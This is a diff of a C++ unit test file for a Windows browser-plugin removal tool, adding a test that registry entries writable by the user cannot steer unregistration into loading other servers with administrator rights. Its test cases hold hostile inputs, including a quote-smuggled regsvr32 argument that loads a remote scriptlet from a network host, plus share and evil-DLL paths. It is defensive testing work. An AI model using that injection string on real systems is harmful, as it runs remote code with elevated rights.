@@ -63,13 +63,14 @@ class PluginRemovalTest : public ::testing::Test {
     platform.registry = &reg;
     platform.files = &fs;
     platform.shell = &shell;
-    // A helper object of the user's classes, with a subkey below its entry,
-    // beside a toolbar of its own and one of another component.
+    fs.AddFile("C:\\windows\\system32\\regsvr32.exe");
+    // A helper object of the machine's classes, with a subkey below its
+    // entry, beside a toolbar of its own and one of another component.
     reg.SeedString(kHkeyLocalMachine, kBho + "\\{H}\\Settings", "Level", "3");
-    reg.SeedString(kHkeyCurrentUser, "Software\\Classes\\CLSID\\{H}\\InprocServer32", "",
+    reg.SeedString(kHkeyLocalMachine, "Software\\Classes\\CLSID\\{H}\\InprocServer32", "",
                    "C:\\Plug\\Helper.OCX");
-    reg.SeedString(kHkeyCurrentUser, "Software\\Classes\\CLSID\\{H}\\VersionIndependentProgID", "",
-                   "Helper.Obj");
+    reg.SeedString(kHkeyLocalMachine, "Software\\Classes\\CLSID\\{H}\\VersionIndependentProgID",
+                   "", "Helper.Obj");
     reg.SeedString(kHkeyLocalMachine, kToolbar, "{H}", "Helper bar");
     reg.SeedString(kHkeyLocalMachine, kToolbar, "{Other}", "Other bar");
     reg.SeedString(kHkeyLocalMachine, "Software\\Classes\\CLSID\\{Other}\\InprocServer32", "",
@@ -109,12 +110,13 @@ TEST_F(PluginRemovalTest, UnregisteringAHelperObjectTakesEntryAndClassWhereTheyL
   EXPECT_EQ(result.error, kErrorSuccess);
   EXPECT_EQ(result.backupPath, std::string(kProgramFolder) + "\\RegBackup\\IE_2006_3_7_9_5_0.reg");
   EXPECT_FALSE(reg.KeyExists(kHkeyLocalMachine, kBho + "\\{H}"));
-  EXPECT_FALSE(reg.KeyExists(kHkeyCurrentUser, "Software\\Classes\\CLSID\\{H}"));
+  EXPECT_FALSE(reg.KeyExists(kHkeyLocalMachine, "Software\\Classes\\CLSID\\{H}"));
   EXPECT_TRUE(reg.KeyExists(kHkeyLocalMachine, kBho));
-  // The component is asked to unregister itself; ".OCX" counts.
+  // The component is asked to unregister itself, by regsvr32 of the system
+  // folder; ".OCX" counts.
   const auto started = shell.Started();
   ASSERT_EQ(started.size(), 1u);
-  EXPECT_EQ(started[0].file, "regsvr32");
+  EXPECT_EQ(started[0].file, "C:\\windows\\system32\\regsvr32.exe");
   EXPECT_EQ(started[0].parameters, "\"C:\\Plug\\Helper.OCX\" -u");
   EXPECT_EQ(started[0].show, kSwHide);
   Restore("IE_2006_3_7_9_5_0.reg");
@@ -129,7 +131,7 @@ TEST_F(PluginRemovalTest, DeletingAToolbarTakesOnlyItsValueAndBackupsKeepTheirOw
   EXPECT_EQ(second.error, 0);
   EXPECT_EQ(second.backupPath, std::string(kProgramFolder) + "\\RegBackup\\IE_2006_3_7_9_5_0-2.reg");
   EXPECT_TRUE(reg.KeyExists(kHkeyLocalMachine, kToolbar));
-  EXPECT_TRUE(reg.KeyExists(kHkeyCurrentUser, "Software\\Classes\\CLSID\\{H}"));
+  EXPECT_TRUE(reg.KeyExists(kHkeyLocalMachine, "Software\\Classes\\CLSID\\{H}"));
   EXPECT_FALSE(reg.KeyExists(kHkeyLocalMachine, "Software\\Classes\\CLSID\\{Other}"));
   // Deleting a registration starts nothing; a server ending in ".exe" is
   // not passed to regsvr32.
@@ -137,6 +139,101 @@ TEST_F(PluginRemovalTest, DeletingAToolbarTakesOnlyItsValueAndBackupsKeepTheirOw
   Restore("IE_2006_3_7_9_5_0.reg");
   Restore("IE_2006_3_7_9_5_0-2.reg");
   EXPECT_EQ(reg.Dump(), before);
+}
+
+// What the user's hive (writable by any program the user runs) or the
+// registry's text may name never makes the unregistration remove machine
+// classes or load a server with administrator rights.
+TEST_F(PluginRemovalTest, UnregistrationIsNotSteeredByWhatAnyProgramCanWrite) {
+  const std::string hklmClass = "Software\\Classes\\CLSID\\";
+  const std::string hkcuClass = "Software\\Classes\\CLSID\\";
+  const std::string bandButton = "{E0DD6CAB-2D10-11D2-8F1A-0000F87ABD16}";
+  struct Case {
+    const char* what;
+    int kind;
+    std::string classId;  // the record listed
+    std::string machineServer, userServer;  // the class's server in each hive; "" none
+    bool perUserEntry;
+    bool machineClassGone;
+    std::string started;  // regsvr32's parameters; "" nothing started
+  };
+  const Case cases[] = {
+      {"a user's class shadowing a machine-wide helper", kPluginHelperObject, "{S}",
+       "C:\\Machine\\good.dll", "C:\\Evil\\evil.dll", false, true, "\"C:\\Machine\\good.dll\" -u"},
+      {"a machine-wide helper whose class only the user names", kPluginHelperObject, "{S}", "",
+       "C:\\Evil\\evil.dll", false, false, ""},
+      {"a user's own button", kPluginButton, "{S}", "C:\\Machine\\good.dll",
+       "C:\\Evil\\evil.dll", true, false, ""},
+      {"a server path with a quote", kPluginHelperObject, "{S}",
+       "C:\\x.dll\" /i:http://host/x scrobj.dll \"C:\\y.dll", "", false, true, ""},
+      {"a server on a share", kPluginHelperObject, "{S}", "\\\\host\\share\\x.dll", "", false,
+       true, ""},
+      {"a server on a drive of the network", kPluginHelperObject, "{S}", "N:\\x.dll", "", false,
+       true, ""},
+      {"a context menu has no class tree to back up", kPluginContextMenu, "", "", "", false, false,
+       ""},
+  };
+  fs.AddDrive('N', kDriveRemote);
+  for (const Case& c : cases) {
+    SCOPED_TRACE(c.what);
+    CMemoryRegistry scene;
+    CMemoryShell started{fs};
+    Platform p = platform;
+    p.registry = &scene;
+    p.shell = &started;
+    const RegKey entryRoot = c.perUserEntry ? kHkeyCurrentUser : kHkeyLocalMachine;
+    std::string entryKey;
+    if (c.kind == kPluginHelperObject) {
+      entryKey = kBho + "\\" + c.classId;
+      scene.SeedKey(entryRoot, entryKey);
+    } else if (c.kind == kPluginButton) {
+      entryKey = std::string(kExtensionsKey) + "\\{Btn}";
+      scene.SeedString(entryRoot, entryKey, "Clsid", bandButton);
+      scene.SeedString(entryRoot, entryKey, "BandClsid", c.classId);
+      scene.SeedString(entryRoot, entryKey, "ButtonText", "Go");
+    } else {
+      entryKey = std::string(kMenuExtKey) + "\\Open here";
+      scene.SeedString(entryRoot, entryKey, "", "C:\\Menu\\menu.dll");
+    }
+    if (!c.machineServer.empty()) {
+      scene.SeedString(kHkeyLocalMachine, hklmClass + c.classId + "\\InprocServer32", "",
+                       c.machineServer);
+    }
+    if (!c.userServer.empty()) {
+      scene.SeedString(kHkeyCurrentUser, hkcuClass + c.classId + "\\InprocServer32", "",
+                       c.userServer);
+    }
+    const std::string before = scene.Dump();
+    CPluginInventory listing(scene);
+    listing.List(c.kind);
+    ASSERT_EQ(listing.Records().size(), 1u);
+    const auto result =
+        CPluginRemoval(p, -1).UnregisterPlugin(c.kind, *listing.Records()[0], when);
+    ASSERT_EQ(result.error, kErrorSuccess);
+    EXPECT_FALSE(scene.KeyExists(entryRoot, entryKey));
+    EXPECT_EQ(result.perUserServerLeft, c.perUserEntry);
+    if (!c.machineServer.empty()) {
+      EXPECT_EQ(scene.KeyExists(kHkeyLocalMachine, hklmClass + c.classId), !c.machineClassGone);
+    }
+    // The user's own class is never taken for a machine-wide one, nor removed.
+    if (!c.userServer.empty()) {
+      EXPECT_TRUE(scene.KeyExists(kHkeyCurrentUser, hkcuClass + c.classId));
+    }
+    const auto programs = started.Started();
+    if (c.started.empty()) {
+      EXPECT_TRUE(programs.empty()) << started.Dump();
+    } else {
+      ASSERT_EQ(programs.size(), 1u);
+      EXPECT_EQ(programs[0].file, "C:\\windows\\system32\\regsvr32.exe");
+      EXPECT_EQ(programs[0].parameters, c.started);
+    }
+    // What went comes back from the backup.
+    test::RegFile file;
+    std::string error;
+    ASSERT_TRUE(test::ParseRegFile(fs.Contents(result.backupPath), &file, &error)) << error;
+    test::ApplyRegFile(file, scene);
+    EXPECT_EQ(scene.Dump(), before);
+  }
 }
 
 // The disk fills while the backup is written. (A missing RegBackup folder is
